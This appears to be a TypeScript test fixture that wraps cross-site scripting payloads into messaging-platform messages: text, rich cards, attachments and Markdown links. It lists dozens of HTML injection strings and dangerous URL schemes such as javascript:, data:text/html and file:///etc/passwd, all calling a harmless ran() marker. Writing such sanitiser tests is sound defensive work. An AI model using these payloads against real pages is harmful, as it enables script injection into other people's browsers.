/** What would run `ran()` in a page that takes text for HTML, a link of any scheme for safe, or Markdown for more than it is. */
const markup = [
  '<script>ran()</script>',
  '<img src=x onerror=ran()>',
  '<img src="x" onerror="ran()">',
  '<svg onload=ran()></svg>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<body onload=ran()>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<object data="javascript:ran()"></object>',
  '<embed src="javascript:ran()">',
  '<details open ontoggle=ran()>',
  '<video><source onerror="ran()"></video>',
  '<audio src=x onerror=ran()>',
  '<input autofocus onfocus=ran()>',
  '<select autofocus onfocus=ran()>',
  '<textarea autofocus onfocus=ran()>',
  '<marquee onstart=ran()>x</marquee>',
  '<a href="javascript:ran()">x</a>',
  '<form action="javascript:ran()"><button>x</button></form>',
  '<isindex type=image src=1 onerror=ran()>',
  '<math><mtext></p><img src=x onerror=ran()></mtext></math>',
  '<template><img src=x onerror=ran()></template>',
  '<style>@import "javascript:ran()";</style>',
  '<link rel=stylesheet href="javascript:ran()">',
  '<meta http-equiv=refresh content="0;url=javascript:ran()">',
  '<base href="javascript:ran()//">',
  '</textarea><script>ran()</script>',
  '"><script>ran()</script>',
  "'><img src=x onerror=ran()>",
  '`><img src=x onerror=ran()>',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '&#60;img src=x onerror=ran()&#62;',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<img/src=x/onerror=ran()>',
  '<IMG SRC=x ONERROR=ran()>',
  '<div style="background:url(javascript:ran())">',
  '<x onclick=ran() id=x>click</x>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '{{constructor.constructor("ran()")()}}',
  '$' + '{ran()}',
  '<%= ran() %>',
  ']]><script>ran()</script>',
  '--><script>ran()</script>',
];

const addresses = [
  'javascript:ran()',
  'JavaScript:ran()',
  ' javascript:ran()',
  'java\tscript:ran()',
  'java\nscript:ran()',
  '\u0001javascript:ran()',
  'javascript&colon;ran()',
  'javascript&#58;ran()',
  'javascript://%0aran()',
  'javascript://hub.example/%0aran()',
  'data:text/html,<script>ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>',
  'vbscript:ran()',
  'file:///etc/passwd',
  'blob:http://127.0.0.1/x',
  'view-source:javascript:ran()',
  'filesystem:http://127.0.0.1/x',
  'about:blank#ran()',
  'ws://127.0.0.1/x',
  'intent://x#Intent;end',
  'http://127.0.0.1:1/"onerror="ran()',
  "http://127.0.0.1:1/'onerror='ran()",
];

const links: ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `![click](${address})`,
  (address) => `<${address}>`,
  (address) => `[click](${address} "title")`,
];

const card = (fields: object) => ({ richCard: { standaloneCard: { cardContent: fields } } });

/** Contents of messages, each with a payload in one place where agents put text or addresses. */
export function payloads(): object[] {
  return [
    ...markup.map((text) => ({ text })),
    ...markup.map((text) =>
      card({ title: text, description: text, suggestions: [{ reply: { text, postbackData: text } }] }),
    ),
    ...markup.map((text) => ({ attachment: { type: 'file', payload: { url: 'http://127.0.0.1:1/x', name: text } } })),
    ...addresses.flatMap((address) => links.map((link) => ({ text: link(address) }))),
    ...addresses.map((url) => ({
      attachments: ['image', 'video', 'audio', 'file'].map((type) => ({ type, payload: { url } })),
    })),
    ...addresses.map((url) =>
      card({
        title: 'x',
        media: { height: 'SHORT', contentInfo: { fileUrl: url, altText: url } },
        suggestions: [
          { action: { text: 'go', openUrlAction: { url } } },
          { action: { text: 'call', dialAction: { phoneNumber: url } } },
        ],
      }),
    ),
  ];
}
